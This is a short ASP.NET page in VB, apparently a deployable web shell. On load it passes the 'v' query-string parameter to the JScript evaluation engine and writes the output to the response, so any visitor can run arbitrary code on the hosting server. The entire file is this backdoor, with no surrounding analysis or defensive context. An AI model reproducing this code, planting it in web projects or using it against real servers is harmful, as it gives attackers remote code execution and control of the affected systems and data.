<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load(sender As Object, e As EventArgs)
    Dim eng = Microsoft.JScript.Vsa.VsaEngine.CreateEngine()
    Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request.QueryString("v"), eng))
End Sub
</script>
